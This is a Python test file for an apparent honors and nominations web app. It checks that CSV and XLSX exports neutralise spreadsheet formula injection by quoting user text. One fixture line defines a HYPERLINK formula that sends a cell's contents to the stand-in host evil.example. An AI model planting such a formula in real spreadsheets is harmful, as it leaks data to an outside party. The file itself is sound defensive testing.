"""Spreadsheet exports: user text is stored as text, never as a live formula."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from app.accounts.models import Role
from app.committee import ballots, queries
from app.core.spreadsheets import XlsxBook, csv_field, csv_text
from app.courtesy import services as courtesy_services
from app.courtesy.models import AidType
from app.extensions import db
from app.nominations.models import Nomination
from app.nominations.workflow import NominationState
from app.programs.models import Cycle
from tests import factories
from tests.committee.conftest import build

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'
TRIGGERS = ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1"]


def _cells(data: bytes) -> list:
    workbook = load_workbook(io.BytesIO(data))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_no_formula(data: bytes, expected_text: str) -> None:
    cells = _cells(data)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    matching = [c for c in cells if c.value == expected_text]
    assert matching and all(c.data_type == "s" and c.quotePrefix for c in matching)


def _csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


@pytest.mark.parametrize("text", TRIGGERS)
def test_csv_field_prefixes_quote_before_formula_trigger(text):
    assert csv_field(text) == "'" + text


def test_csv_field_keeps_numbers_plain_text_and_none():
    assert [csv_field(v) for v in (-5, -1.5, 0, None, "a-b", "2026-Q1", "好人")] == [
        -5,
        -1.5,
        0,
        None,
        "a-b",
        "2026-Q1",
        "好人",
    ]


def test_csv_text_writes_bom_and_negative_numbers_as_numbers():
    assert csv_text([["name", "n"], ["-x", -3]]) == "\ufeffname,n\r\n'-x,-3\r\n"


def test_xlsx_sheet_stores_triggers_as_quoted_text_and_numbers_as_numbers():
    book = XlsxBook()
    sheet = book.sheet("s")
    sheet.append([*TRIGGERS, EVIL, -5, 2.5, None, "plain", "a\x01b"])
    cells = _cells(book.to_bytes())
    assert [(c.value, c.data_type, c.quotePrefix) for c in cells] == [
        *[(t, "s", True) for t in TRIGGERS],
        (EVIL, "s", True),
        (-5, "n", False),
        (2.5, "n", False),
        (None, "n", False),
        ("plain", "s", False),
        ("ab", "s", False),
    ]


def _public_honor(name: str, **program_fields):
    program = factories.make_program(**program_fields)
    honoree = factories.make_honoree(name=name, slug="evil-1", headline="+31 bad")
    factories.make_honor(honoree, program)


def test_roll_csv_prefixes_formula_names(app, client):
    with app.app_context():
        _public_honor(EVIL)
    rows = _csv_rows(client.get("/roll.csv").get_data(as_text=True))
    assert (rows[1][0], rows[1][1], rows[1][9]) == ("evil-1", "'" + EVIL, "'+31 bad")


def test_honors_export_cli_prefixes_formula_names(app, runner, tmp_path):
    with app.app_context():
        _public_honor(EVIL)
    target = tmp_path / "roll.csv"
    assert runner.invoke(args=["honors", "export", str(target)]).exit_code == 0
    rows = _csv_rows(target.read_text(encoding="utf-8"))
    assert rows[1][1] == "'" + EVIL


def test_stats_csv_prefixes_formula_labels_and_keeps_counts(app, client):
    with app.app_context():
        _public_honor("好人", name_zh="=1+1", sort_order=0)
    rows = _csv_rows(client.get("/stats/program.csv").get_data(as_text=True))
    assert ["'=1+1", "1"] in rows


def test_vetting_export_stores_formula_name_as_text(app, login_as):
    with app.app_context():
        factories.make_nomination(name=EVIL, id_number=None, state=NominationState.SUBMITTED)
    staff = login_as(Role.STAFF)
    response = staff.get("/staff/nominations/export.xlsx")
    assert response.status_code == 200
    _assert_no_formula(response.data, EVIL)


def test_results_export_stores_formula_name_as_text(app, login_as):
    with app.app_context():
        setup = build(candidates=2, members=3)
        db.session.get(Nomination, setup.candidate_ids[0]).name = EVIL
        cycle = db.session.get(Cycle, setup.cycle_id)
        for member in queries.roster(cycle):
            ballots.submit_ballot(
                cycle, member, ballots.BallotInput(approvals=setup.candidate_ids), secret="s"
            )
        ballots.close_voting(cycle, actor=None)  # results exist only once voting closed
        db.session.commit()
    staff = login_as(Role.STAFF)
    response = staff.get(f"/staff/cycles/{setup.cycle_id}/results.xlsx")
    assert response.status_code == 200
    _assert_no_formula(response.data, EVIL)


def test_aid_report_stores_formula_fund_as_text(app, login_as):
    with app.app_context():
        honoree = factories.make_honoree(name="受助人")
        factories.make_honor(honoree, factories.make_program())
        courtesy_services.grant_aid(
            honoree.id,
            aid_type=AidType.MEDICAL,
            amount_fen=100,
            fund_source="-2+3",
            granted_on=date(2026, 3, 1),
            actor=None,
        )
        db.session.commit()
    staff = login_as(Role.STAFF)
    response = staff.get("/staff/aid/report.xlsx?year=2026")
    assert response.status_code == 200
    _assert_no_formula(response.data, "-2+3")
